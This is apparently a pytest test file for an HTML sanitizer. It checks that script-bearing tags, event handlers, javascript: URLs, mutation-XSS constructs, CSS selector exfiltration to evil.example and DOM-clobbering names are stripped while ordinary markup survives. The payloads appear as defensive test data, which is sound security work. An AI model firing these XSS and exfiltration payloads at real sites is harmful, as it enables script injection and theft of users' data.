"""`Html` keeps what people write and drops what acts."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from stockade.boundary import Html
from tests.boundary.types.conftest import verdict

ACTING = {"script", "style", "iframe", "object", "embed", "form", "svg", "math", "base", "link"}


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.harm: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ACTING:
            self.harm.append(tag)
        for name, value in attrs:
            scheme = (value or "").partition(":")[0].strip().lower()
            if name.startswith("on") or name in {"style", "id", "class", "srcdoc", "formaction"}:
                self.harm.append(name)
            if (
                name in {"href", "src"}
                and scheme not in {"http", "https", "mailto"}
                and ":" in (value or "")
            ):
                self.harm.append(scheme)


class _Names(HTMLParser):
    """The names that a browser reaches elements by."""

    def __init__(self) -> None:
        super().__init__()
        self.found: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found |= {value or "" for name, value in attrs if name in ("id", "name")}


def names(text: str) -> set[str]:
    reader = _Names()
    reader.feed(text)
    reader.close()
    return reader.found


def harm(text: str) -> list[str]:
    reader = _Reader()
    reader.feed(text)
    reader.close()
    return reader.harm


ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\tscript:alert(1)'>x</a>",
    "<svg onload=alert(1)>",
    "<p style='background:url(//x)' onclick=x()>x</p>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=x()>'>",
    "<iframe srcdoc='<script>x()</script>'></iframe>",
    "<form action=//x><input></form>",
    "<base href=//x>",
]


@pytest.mark.asvs("V1.3.1")
@pytest.mark.parametrize("attack", ATTACKS)
def test_what_acts_is_dropped(attack: str) -> None:
    assert harm(attack)
    assert harm(verdict(Html, attack)) == []


@pytest.mark.asvs("V1.3.5")
@pytest.mark.parametrize(
    "written",
    [
        "# Plan\n\n<script>alert(1)</script>",
        "*one* <img src=x onerror=alert(1)>",
        "<style>input[value^=a]{background:url(//evil.example/a)}</style>\n\n*one*",
        "<p style='position:fixed;inset:0'>*one*</p>",
        "<link rel=stylesheet href=//evil.example/a.css>",
    ],
)
def test_markdown_and_css_do_nothing_once_rendered(written: str) -> None:
    rendered = MarkdownIt("commonmark").render(written)
    assert harm(rendered)
    assert harm(verdict(Html, rendered)) == []
    honest = MarkdownIt("commonmark").render("# Plan\n\n*one* [two](https://a.example/)\n\n- 3")
    assert verdict(Html, honest).replace(' rel="noopener noreferrer nofollow ugc"', "") == honest


@pytest.mark.asvs("V3.2.3")
@pytest.mark.parametrize(
    ("written", "clobbered"),
    [
        ('<a id="config" href="https://evil.example/x.js">x</a>', {"config"}),
        ('<form name="settings"><input name="action"></form>', {"settings", "action"}),
        ('<img name="cookie"><img name="getElementById">', {"cookie", "getElementById"}),
        ('<iframe name="top"></iframe><object id="api"></object>', {"top", "api"}),
        ('<p id="user">Ada</p>', {"user"}),
    ],
)
def test_nothing_takes_the_place_of_a_scripts_variables(written: str, clobbered: set[str]) -> None:
    """A browser makes variables of `window` and `document` of these (HTML, named access)."""
    assert names(written) == clobbered
    assert names(verdict(Html, written)) == set()


def test_what_people_write_stays() -> None:
    text = "<h2>Plan</h2><p>One <strong>bold</strong> &amp; <em>two</em></p><ul><li>a</li></ul>"
    assert verdict(Html, text) == text
    assert 'href="https://a.example/?q=1"' in verdict(
        Html, '<a href="https://a.example/?q=1">x</a>'
    )


@given(st.text(st.sampled_from("<>\"'=/ab:&;- \n") | st.characters(), max_size=60))
def test_cleaning_again_changes_nothing(value: str) -> None:
    once = verdict(Html, value)
    if isinstance(once, str):
        assert verdict(Html, once) == once
        assert harm(once) == []
